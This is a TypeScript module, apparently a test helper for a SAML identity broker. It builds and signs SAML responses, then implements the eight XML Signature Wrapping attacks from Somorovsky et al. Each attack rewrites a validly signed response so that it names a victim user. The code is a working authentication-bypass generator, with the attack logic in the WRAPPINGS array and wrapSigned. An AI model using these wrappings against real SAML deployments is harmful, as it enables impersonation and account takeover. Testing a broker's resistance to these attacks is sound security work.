import * as fs from "node:fs";
import * as path from "node:path";
import { SignedXml } from "xml-crypto";
import { OUTSIDE, UNIVERSITY } from "./outside.ts";
import type { SharedStack } from "./shared.ts";

/** What a response of the outside SAML identity provider says; each may be false. */
export interface Said {
  readonly nameId: string;
  readonly inResponseTo: string;
  readonly audience: string;
  readonly recipient: string;
  readonly destination: string;
  readonly issuer: string;
  readonly notBefore: Date;
  readonly notOnOrAfter: Date;
}

const SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256";
const RSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256";
const EXCLUSIVE = "http://www.w3.org/2001/10/xml-exc-c14n#";
const ENVELOPED = "http://www.w3.org/2000/09/xmldsig#enveloped-signature";
const MINUTE_MS = 60_000;

/** What an honest response to a request says. */
export function honest(stack: SharedStack, inResponseTo: string): Said {
  const broker = `https://${stack.domain}/realms/developers`;
  const acs = `${broker}/broker/${UNIVERSITY}/endpoint`;
  return {
    nameId: "eve",
    inResponseTo,
    audience: broker,
    recipient: acs,
    destination: acs,
    issuer: `https://${stack.domain}/realms/${OUTSIDE}`,
    notBefore: new Date(Date.now() - MINUTE_MS),
    notOnOrAfter: new Date(Date.now() + MINUTE_MS),
  };
}

/** A response without any signature. */
export function responseOf(said: Said): string {
  const now = new Date().toISOString();
  const until = said.notOnOrAfter.toISOString();
  const issuer = `<saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">${said.issuer}</saml:Issuer>`;
  return (
    `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_response" Version="2.0" IssueInstant="${now}"` +
    ` Destination="${said.destination}" InResponseTo="${said.inResponseTo}">${issuer}` +
    `<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>` +
    `<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_assertion" Version="2.0" IssueInstant="${now}">${issuer}` +
    `<saml:Subject><saml:NameID Format="urn:oasis:names:tc:SAML:2.0:nameid-format:persistent">${said.nameId}</saml:NameID>` +
    `<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"><saml:SubjectConfirmationData` +
    ` NotOnOrAfter="${until}" Recipient="${said.recipient}" InResponseTo="${said.inResponseTo}"/></saml:SubjectConfirmation></saml:Subject>` +
    `<saml:Conditions NotBefore="${said.notBefore.toISOString()}" NotOnOrAfter="${until}">` +
    `<saml:AudienceRestriction><saml:Audience>${said.audience}</saml:Audience></saml:AudienceRestriction></saml:Conditions>` +
    `<saml:AuthnStatement AuthnInstant="${now}" SessionIndex="_session"><saml:AuthnContext><saml:AuthnContextClassRef>` +
    `urn:oasis:names:tc:SAML:2.0:ac:classes:unspecified</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement>` +
    `</saml:Assertion></samlp:Response>`
  );
}

/** Key of the outside identity provider, PEM. */
export function outsideKey({ folder }: SharedStack): string {
  return fs.readFileSync(path.join(folder, "outside.key"), "utf8");
}

/** Signs the response or its assertion, as an identity provider does. */
export function sign(xml: string, element: "Response" | "Assertion", key: string): string {
  const signer = new SignedXml({
    privateKey: key,
    signatureAlgorithm: RSA_SHA256,
    canonicalizationAlgorithm: EXCLUSIVE,
  });
  const xpath = `//*[local-name(.)='${element}']`;
  signer.addReference({ xpath, digestAlgorithm: SHA256, transforms: [ENVELOPED, EXCLUSIVE] });
  signer.computeSignature(xml, {
    prefix: "ds",
    location: { reference: `${xpath}/*[local-name(.)='Issuer']`, action: "after" },
  });
  return signer.getSignedXml();
}

/** The first of something in a document, as text. */
function part(xml: string, name: string): string {
  const [found] = new RegExp(`<${name}[ >][^]*</${name}>`).exec(xml) ?? [];
  if (found === undefined) throw new Error(`no ${name} in ${xml}`);
  return found;
}

const swap = (xml: string, from: string, to: string): string => xml.replace(from, () => to);
const without = (xml: string, gone: string): string => swap(xml, gone, "");
const append = (xml: string, name: string, child: string): string =>
  swap(xml, `</${name}>`, `${child}</${name}>`);

/** What a signed document is made of, and how an attacker makes it about a victim. */
interface Parts {
  readonly whole: string;
  readonly signature: string;
  /** Prefix of the signature's namespace. */
  readonly prefix: string;
  /** The assertion as it was signed, with its signature where it has its own. */
  readonly assertion: string;
  /** Puts another name and ID into an element. */
  readonly forge: (element: string) => string;
}

/**
 * The eight ways of signature wrapping, numbered as in SAML Raider, after Somorovsky et al., "On Breaking SAML: Be
 * Whoever You Want to Be" (2012). The first two are over a signed response, the others over a signed assertion.
 */
const WRAPPINGS: readonly ((parts: Parts) => string)[] = [
  ({ whole, signature, prefix, forge }) => {
    const original = without(whole, signature);
    const wrapping = append(signature, `${prefix}:Signature`, original);
    return swap(forge(original), "</saml:Issuer>", `</saml:Issuer>${wrapping}`);
  },
  ({ whole, signature, forge }) => {
    const original = without(whole, signature);
    return swap(forge(original), "</saml:Issuer>", `</saml:Issuer>${original}${signature}`);
  },
  ({ whole, signature, assertion, forge }) =>
    swap(whole, assertion, forge(without(assertion, signature)) + assertion),
  ({ whole, signature, assertion, forge }) =>
    swap(whole, assertion, append(forge(without(assertion, signature)), "saml:Assertion", assertion)),
  ({ whole, signature, assertion, forge }) =>
    append(swap(whole, assertion, forge(assertion)), "samlp:Response", without(assertion, signature)),
  ({ whole, signature, prefix, assertion, forge }) =>
    swap(whole, assertion, append(forge(assertion), `${prefix}:Signature`, without(assertion, signature))),
  ({ whole, signature, assertion, forge }) => {
    const evil = forge(without(assertion, signature));
    return swap(whole, assertion, `<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`);
  },
  ({ whole, signature, prefix, assertion, forge }) => {
    const object = `<${prefix}:Object>${without(assertion, signature)}</${prefix}:Object>`;
    return swap(whole, assertion, append(forge(assertion), `${prefix}:Signature`, object));
  },
];

/** Numbers of {@link wrap}. */
export const WRAPPING_NUMBERS = WRAPPINGS.map((_, index) => index + 1);

/** What must be signed, and nothing else, for a way of wrapping. */
export function signedFor(number: number): "Response" | "Assertion" {
  return number <= 2 ? "Response" : "Assertion";
}

/** Wraps a response whose signature is sound, and about `name`, so that it speaks of a victim. */
export function wrapSigned(whole: string, number: number, name: string, victim: string): string {
  const [, prefix = ""] = /<(\w+):Signature[ >]/.exec(whole) ?? [];
  const wrapped = WRAPPINGS[number - 1]?.({
    whole,
    signature: part(whole, `${prefix}:Signature`),
    prefix,
    assertion: part(whole, "saml:Assertion"),
    forge: (element) => element.replace(/ ID="[^"]*"/, ' ID="_evil"').replace(`>${name}<`, `>${victim}<`),
  });
  if (wrapped === undefined) throw new Error(`no wrapping ${number}`);
  return wrapped;
}

/** Makes a response and wraps it so that it speaks of a victim. */
export function wrap(said: Said, number: number, victim: string, key: string): string {
  return wrapSigned(sign(responseOf(said), signedFor(number), key), number, said.nameId, victim);
}
